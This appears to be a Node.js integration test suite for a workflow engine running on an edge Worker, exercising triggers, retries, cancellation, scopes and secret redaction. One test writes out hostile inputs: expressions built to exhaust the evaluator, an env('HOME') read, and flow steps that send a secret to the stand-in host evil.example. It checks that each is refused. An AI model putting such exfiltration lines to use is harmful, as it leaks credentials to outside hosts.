// Workflows on the real Worker: groups deployed, runs started by entries and by hand, carried on through failures.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, test } from "node:test";
import { assertProblem, authStatus, backOfficeOf, postWebhook, until, webhook } from "../edge-client.mjs";
import { LOCAL, startEdge } from "../harness.mjs";
import { pullOf, startStandIn } from "../stand-in.mjs";
import { asked, putBy } from "../workflows-client.mjs";

const TOKENS = `demo:${LOCAL.apiToken},boss:boss-token:admin+read+write,reader:reader-token:read`;
const SECRET = "hunter2hunter2";

let canopy, service, edge, office, boss, hostile;
/** What the service answers next; then 200 with `{"ok": true}`. */
const answers = [];

before(async () => {
  canopy = await startStandIn(({ path }) => ({ body: { success: true, pull: { pull_id: pullOf(path), policies: [], account_identifier: "a-1" } } }));
  service = await startStandIn(() => answers.shift() ?? { body: { ok: true } });
  edge = await startEdge({ sandbox: canopy, env: { EDGE_API_TOKENS: TOKENS, EDGE_SECRETS: `SHOP:${new URL(service.url).host}:${SECRET}` } });
  [office, boss] = [backOfficeOf(edge), backOfficeOf(edge, "boss-token")];
});
after(async () => {
  await edge?.stop();
  await Promise.all([canopy, service].map((it) => it?.stop()));
});

const put = (path, json) => putBy(boss, path, json);
/** A group with one flow, and an instance of it that is switched on. */
async function deployed(name, flow, { config = {}, fields = {}, enabled = true } = {}) {
  await put(`/api/v1/flows/${name}`, { title: name, config: fields, flows: { flow } });
  return put(`/api/v1/instances/${name}`, { group: name, config, enabled });
}
const on = (types, steps, more = {}) => ({ trigger: { on: "event", types, ...more }, steps });
const call = (id, more = {}) => ({ id, use: "http", with: { url: `${service.url}/${id}`, json: { of: id, pull: "{{ pull.pull_id }}" } }, ...more });
const calls = (path) => service.calls.filter((it) => it.path === `/${path}`);
const runsOf = async (query) => (await office.read(`/api/v1/runs?${query}`)).runs;
const begun = async (status = "PROCESSING") => {
  const id = randomUUID();
  assert.equal((await postWebhook(edge, authStatus(id, status, 1))).status, 200);
  return id;
};
const move = async (advance) => assert.equal((await asked(boss, "POST", "/api/v1/clock", { advance }))[0], 200);
const ended = (run_id) => until(async () => {
  const run = await office.read(`/api/v1/runs/${run_id}`);
  return !["running", "approval"].includes(run.status) && run;
}, `the end of ${run_id}`);
const runOn = (pull_id) => until(async () => (await runsOf(`pull_id=${pull_id}`))[0], "the run in the list");

test("an entry starts a run, once, and the request has its secret and its key", async () => {
  const flow = on(["AUTH_STATUS"], [call("greet", { secret: { name: "{{ config.key }}", as: "bearer" } }), { id: "told", use: "emit", with: { event_type: "GREETED", data: { status: "{{ steps.greet.status }}" } } }], { when: "event.data.auth_status == 'PROCESSING'" });
  const instance = await deployed("greeting", flow, { fields: { key: { type: "secret" } }, config: { key: "SHOP" } });
  assert.ok(Date.parse(instance.enabled_from) <= Date.now());
  const id = await begun();
  const body = authStatus(id, "PROCESSING", 1);
  for (let again = 0; again < 3; again += 1) await postWebhook(edge, body);
  await postWebhook(edge, authStatus(id, "PULLING_DATA", 2));
  const line = await runOn(id);
  const run = await ended(line.run_id);
  assert.deepEqual([run.status, run.instance_id, run.version, run.cause], ["done", "greeting", 1, 1]);
  await office.seen(id, (pull) => pull.own?.GREETED, "what the run wrote");
  const made = calls("greet");
  assert.equal(made.length, 1);
  assert.deepEqual([made[0].headers.authorization, made[0].headers["idempotency-key"], JSON.parse(made[0].body)], [`Bearer ${SECRET}`, `${run.run_id}/greet`, { of: "greet", pull: id }]);
  assert.ok(!JSON.stringify(run).includes(SECRET), "no secret in the journal");
  assert.deepEqual(run.steps.map(({ path, state }) => [path, state]), [["greet", "done"], ["told", "done"]]);
  assert.equal((await runsOf(`pull_id=${id}`)).length, 1);
  assert.deepEqual((await office.events(id)).filter((entry) => entry.event_type === "GREETED").map((entry) => entry.body.caller), ["workflow:greeting"]);
});

test("a service that fails is tried again with the same key, and what it refuses is told and made once more by hand", async () => {
  await deployed("stubborn", on(["CLAIMS_AVAILABLE"], [call("stubborn", { retry: { attempts: 3 } })]));
  answers.push({ status: 500, body: "down" }, { status: 429, headers: { "retry-after": "1" }, body: {} });
  const [id] = [randomUUID()];
  await postWebhook(edge, webhook(id, "CLAIMS_AVAILABLE"));
  const { run_id } = await runOn(id);
  assert.equal((await ended(run_id)).status, "done");
  const made = calls("stubborn");
  assert.equal(made.length, 3);
  assert.equal(new Set(made.map(({ headers, body }) => headers["idempotency-key"] + body)).size, 1);

  answers.push({ status: 400, body: { message: "no" } });
  const other = randomUUID();
  await postWebhook(edge, webhook(other, "CLAIMS_AVAILABLE"));
  const failed = await ended((await runOn(other)).run_id);
  assert.deepEqual([failed.status, failed.reason, failed.path], ["failed", "REFUSED", "stubborn"]);
  const [status] = await asked(office, "POST", `/api/v1/runs/${failed.run_id}/retry`);
  assert.equal(status, 200);
  assert.equal((await ended(failed.run_id)).status, "done");
  await assertProblem(await office.call(`/api/v1/runs/${failed.run_id}/retry`, { method: "POST" }), 409, "STATE_CONFLICT");
});

test("two instances stand side by side, each with its own configuration; one that is off starts nothing", async () => {
  const fields = { name: { type: "text", required: true } };
  const flow = on(["VALIDATION_COMPLETE"], [{ id: "say", use: "http", with: { url: `${service.url}/side`, json: { name: "{{ config.name }}" } } }]);
  await put("/api/v1/flows/side", { title: "Side", config: fields, flows: { flow } });
  for (const [name, enabled] of [["one", true], ["two", true], ["three", false]]) await put(`/api/v1/instances/side-${name}`, { group: "side", config: { name }, enabled });
  const wrong = await assertProblem(await boss.call("/api/v1/instances/side-four", { method: "PUT", body: JSON.stringify({ group: "side", config: { name: "", more: 1 }, enabled: true }) }), 422, "WORKFLOW_INVALID");
  assert.deepEqual(wrong.errors.map(({ pointer }) => pointer), ["/config/name", "/config/more"]);
  const id = randomUUID();
  await postWebhook(edge, webhook(id, "VALIDATION_COMPLETE"));
  await until(() => calls("side").length === 2, "both calls");
  assert.deepEqual(calls("side").map(({ body }) => JSON.parse(body).name).toSorted(), ["one", "two"]);
  await put("/api/v1/instances/side-one", { group: "side", config: { name: "one" }, enabled: false });
  const later = randomUUID();
  await postWebhook(edge, webhook(later, "VALIDATION_COMPLETE"));
  await until(() => calls("side").length === 3, "the other's call");
  assert.equal(JSON.parse(calls("side")[2].body).name, "two");
});

test("a wait takes what came before it, and is over when its time is", async () => {
  const steps = [call("before"), { id: "bound", use: "wait", with: { types: ["POLICY_BOUND"], when: "event.data.n == 2", timeout: "P1D", on_timeout: "continue" } }, call("behind")];
  await deployed("waiting", { trigger: { on: "manual", of: "pull" }, steps });
  const own = (id, n) => asked(office, "POST", `/api/v1/pulls/${id}/events`, { event_type: "POLICY_BOUND", key: `${n}`, data: { n } });
  const [early, late] = [await begun(), await begun()];
  const start = async (pull_id) => {
    const [status, { run_id }] = await asked(office, "POST", "/api/v1/instances/waiting/runs", { flow: "flow", pull_id });
    assert.equal(status, 202);
    return run_id;
  };
  const run = await start(early);
  await until(async () => (await office.read(`/api/v1/runs/${run}`)).steps.some(({ path }) => path === "bound"), "the wait");
  await own(early, 1);
  await own(early, 2);
  const met = await ended(run);
  assert.deepEqual([met.status, met.steps[1].result.event.data], ["done", { n: 2 }]);
  assert.equal(calls("behind").length, 1);

  const over = await start(late);
  await until(async () => (await office.read(`/api/v1/runs/${over}`)).steps.some(({ path }) => path === "bound"), "the wait");
  await move("P2D");
  const gone = await ended(over);
  assert.deepEqual([gone.status, gone.steps[1].result], ["done", { timed_out: true }]);
});

test("a run is cancelled, and who may not does not", async () => {
  await deployed("slow", { trigger: { on: "manual", of: "pull" }, steps: [{ id: "rest", use: "sleep", with: { for: "P3D" } }] });
  const pull_id = await begun();
  const [, { run_id }] = await asked(office, "POST", "/api/v1/instances/slow/runs", { flow: "flow", pull_id });
  const reader = backOfficeOf(edge, "reader-token");
  await assertProblem(await reader.call(`/api/v1/runs/${run_id}/cancel`, { method: "POST" }), 403, "SCOPE_MISSING");
  await assertProblem(await office.call("/api/v1/flows/slow", { method: "PUT", body: "{}" }), 403, "SCOPE_MISSING");
  const [status, run] = await asked(office, "POST", `/api/v1/runs/${run_id}/cancel`);
  assert.deepEqual([status, run.status, run.detail], [200, "cancelled", "cancelled by demo"]);
  await assertProblem(await office.call(`/api/v1/runs/${run_id}/cancel`, { method: "POST" }), 409, "STATE_CONFLICT");
  await assertProblem(await office.call(`/api/v1/runs/p-${pull_id}-99`), 404, "NOT_FOUND");
});

test("a run that is cancelled in the middle of a call stays so, and nothing more of it is made", async () => {
  await deployed("middle", { trigger: { on: "manual", of: "pull" }, steps: [call("middle"), call("never")] });
  let answer;
  answers.push(new Promise((resolve) => (answer = () => resolve({ body: { ok: true } }))));
  const pull_id = await begun("PULLING_DATA");
  const [, { run_id }] = await asked(office, "POST", "/api/v1/instances/middle/runs", { flow: "flow", pull_id });
  await until(() => calls("middle").length === 1, "the call");
  assert.equal((await asked(office, "POST", `/api/v1/runs/${run_id}/cancel`))[1].status, "cancelled");
  answer();
  const other = await asked(office, "POST", "/api/v1/instances/middle/runs", { flow: "flow", pull_id });
  assert.equal((await ended(other[1].run_id)).status, "done");
  assert.deepEqual([(await office.read(`/api/v1/runs/${run_id}`)).status, calls("never").length], ["cancelled", 1]);
});

test("a run that waits is gone with its pull", async () => {
  await deployed("leaving", { trigger: { on: "manual", of: "pull" }, steps: [{ id: "rest", use: "sleep", with: { for: "P1D" } }, call("left")] });
  const pull_id = await begun("PULLING_DATA");
  const [, { run_id }] = await asked(office, "POST", "/api/v1/instances/leaving/runs", { flow: "flow", pull_id });
  await runOn(pull_id);
  assert.equal((await asked(boss, "DELETE", `/api/v1/pulls/${pull_id}`))[1].complete, true);
  await assertProblem(await office.call(`/api/v1/runs/${run_id}`), 404, "NOT_FOUND");
  assert.deepEqual(await runsOf(`pull_id=${pull_id}`), []);
  await move("P2D");
  assert.equal(calls("left").length, 0);
});

test("a secret that a service says again stands in no journal, and what is longer than is read is not asked for twice", async () => {
  const secret = { secret: { name: "SHOP", as: "bearer" } };
  await deployed("echoing", { trigger: { on: "manual", of: "pull" }, steps: [call("echoing", secret)] });
  const pull_id = await begun("PULLING_DATA");
  const run = async () => ended((await asked(office, "POST", "/api/v1/instances/echoing/runs", { flow: "flow", pull_id }))[1].run_id);
  answers.push({ headers: { "x-echo": SECRET }, body: { token: SECRET } });
  const echoed = await run();
  assert.deepEqual([echoed.status, echoed.steps[0].result.body], ["done", { token: "[secret]" }]);
  assert.ok(!JSON.stringify(echoed).includes(SECRET));
  answers.push({ body: "x".repeat(600 * 1024) });
  const long = await run();
  assert.deepEqual([long.status, long.reason, long.steps[0].attempts.length], ["failed", "ANSWER", 1]);
});

test("hostile definitions are refused with their place, nothing leaks, and the Worker stays up", async () => {
  const many = (part, count, end = "") => part.repeat(count) + end;
  const sources = [many("!", 200, "true"), many("-", 200, "1"), many("now.", 200, "x"), many("now?1:", 100, "1"), many("(", 24, "now") + many(")", 24), many("[", 24) + many("]", 24), many("{'a':", 24, "1") + many("}", 24), many("1<", 200, "1"), many("1+", 200, "1"), many("now&&", 100, "now"), many("now||", 100, "now"), many("now.?x", 100), many("[0]", 60), many("size(", 24, "now") + many(")", 24), many("'a'.trim()", 1) + many(".trim()", 64), many("(", 24), many("'", 900), many("\\", 900), `[1]${many(".map(x, [x, x])", 24)}`, `['x']${many(".map(x, x + x)", 30)}`, "env('HOME')", "'a'.matches('(a+)+$')"];
  let kept = 0;
  for (const [at, source] of sources.entries()) {
    const group = { title: "Hostile", flows: { flow: { trigger: { on: "manual", of: "pull" }, steps: [{ id: "a", use: "set", with: { values: `{{ ${source} }}` } }] } } };
    const [status, shown] = await asked(boss, "PUT", `/api/v1/flows/hostile-${at}`, group);
    if (status === 422) {
      assert.deepEqual(shown.errors.map(({ pointer }) => pointer), ["/flows/flow/steps/0/with/values"], source);
      continue;
    }
    assert.equal(status, 201, `${source}: ${JSON.stringify(shown)}`);
    await put(`/api/v1/instances/hostile-${at}`, { group: `hostile-${at}`, enabled: true });
    const [begunStatus, { run_id }] = await asked(office, "POST", `/api/v1/instances/hostile-${at}/runs`, { flow: "flow", pull_id: hostile ??= await begun() });
    assert.equal(begunStatus, 202);
    assert.ok(["done", "failed"].includes((await ended(run_id)).status), source);
    await asked(boss, "DELETE", `/api/v1/instances/hostile-${at}`);
    kept += 1;
  }
  assert.ok(kept > 8, `${kept} were evaluated`);
  const leak = await asked(boss, "PUT", "/api/v1/flows/leak", { title: "Leak", flows: { flow: on(["COMPLETE"], [{ id: "a", use: "http", with: { url: `https://evil.example/?${SECRET}` } }]) } });
  assert.deepEqual([leak[0], leak[1].errors[0].pointer], [422, "/flows/flow/steps/0/with/url"]);
  assert.ok(!JSON.stringify(leak).includes(SECRET));
  const elsewhere = await asked(boss, "PUT", "/api/v1/flows/else", { title: "Else", flows: { flow: on(["COMPLETE"], [{ id: "a", use: "http", with: { url: "https://evil.example/" }, secret: { name: "GONE", as: "bearer" } }]) } });
  assert.deepEqual([elsewhere[0], elsewhere[1].errors[0].pointer], [422, "/flows/flow/steps/0/secret/name"]);
  // Where it goes is known only when it runs.
  await deployed("astray", { trigger: { on: "manual", of: "pull" }, steps: [{ id: "a", use: "http", with: { url: "{{ config.url }}" }, secret: { name: "SHOP", as: "bearer" } }] }, { fields: { url: { type: "url" } }, config: { url: `${canopy.url}/x` } });
  const [, { run_id }] = await asked(office, "POST", "/api/v1/instances/astray/runs", { flow: "flow", pull_id: hostile });
  const astray = await ended(run_id);
  assert.deepEqual([astray.status, astray.reason], ["failed", "SECRET"]);
  assert.ok(!canopy.calls.some(({ headers }) => headers.authorization?.includes(SECRET)), "it was not sent there");
});

test("what runs write starts no run without end", async () => {
  const echo = on(["ECHO"], [{ id: "again", use: "emit", with: { event_type: "ECHO" } }]);
  await deployed("echo", echo);
  const id = await begun();
  await asked(office, "POST", `/api/v1/pulls/${id}/events`, { event_type: "ECHO", key: "first" });
  await until(async () => (await runsOf(`pull_id=${id}&instance=echo&status=done&limit=100`)).length === 6, "the last of them");
  await postWebhook(edge, authStatus(id, "PULLING_DATA", 2));
  await office.seen(id, (pull) => pull.status, "the pull");
  assert.equal((await runsOf(`pull_id=${id}&instance=echo&limit=100`)).length, 6);
  await asked(boss, "DELETE", "/api/v1/instances/echo");
});
